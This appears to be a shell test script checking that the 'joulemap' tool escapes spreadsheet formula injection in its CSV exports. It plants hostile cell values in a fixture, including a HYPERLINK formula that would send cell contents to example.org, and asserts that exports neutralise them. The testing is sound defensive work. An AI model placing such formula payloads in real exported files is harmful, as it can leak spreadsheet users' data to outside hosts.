# a kernel's name that a spreadsheet would run is text in CSV, and can be read back
small=$SOURCE_DIR/tests/data/small
python3 - "$small/segments.csv" <<'PYTHON' >segments.csv
import csv
import sys

names = {"alpha": '=HYPERLINK("http://example.org?"&A1,"click")', "beta": "-2+3", "gamma": "'@SUM(1)"}
rows = list(csv.DictReader(open(sys.argv[1], newline="")))
out = csv.DictWriter(sys.stdout, rows[0].keys())
out.writeheader()
out.writerows({**row, "kernel": names[row["kernel"]], "part": "+" + row["part"]} for row in rows)
PYTHON
joulemap import --board h200 --readings "$small/readings.csv" --segments segments.csv -o formulas.joulemap || exit
joulemap export formulas.joulemap --format csv --by kernel -o rows.csv || exit
joulemap export formulas.joulemap --format json --by kernel -o rows.json || exit
joulemap export formulas.joulemap --format csv --by phase -o phases.csv || exit
python3 - <<'PYTHON'
import csv
import json
import re

texts = ("path", "name", "type", "kind", "boards")
for file in ("rows.csv", "phases.csv"):
    for line in csv.DictReader(open(file, newline="")):
        assert not any(line.get(key, "")[:1] in tuple("=+-@\t\r") for key in texts), line
names = [line["name"] for line in csv.DictReader(open("rows.csv", newline=""))]
plain = [re.sub(r"^'(?='*[-=+@\t\r])", "", name) for name in names]
assert plain == [row["name"] for row in json.load(open("rows.json"))["rows"]], (names, plain)
for name in ('=HYPERLINK("http://example.org?"&A1,"click")', "-2+3", "'@SUM(1)"):
    assert name in plain and "'" + name in names, name
with open("known.csv", "w", newline="") as out:
    lines = csv.writer(out)
    lines.writerow(["kernel", "power_w", "u_w"])
    lines.writerows([name, 400, 10] for name in names if "'" in name)
PYTHON
joulemap report formulas.joulemap --by kernel --prior known.csv --json | grep -o '3 of the 3 lines'
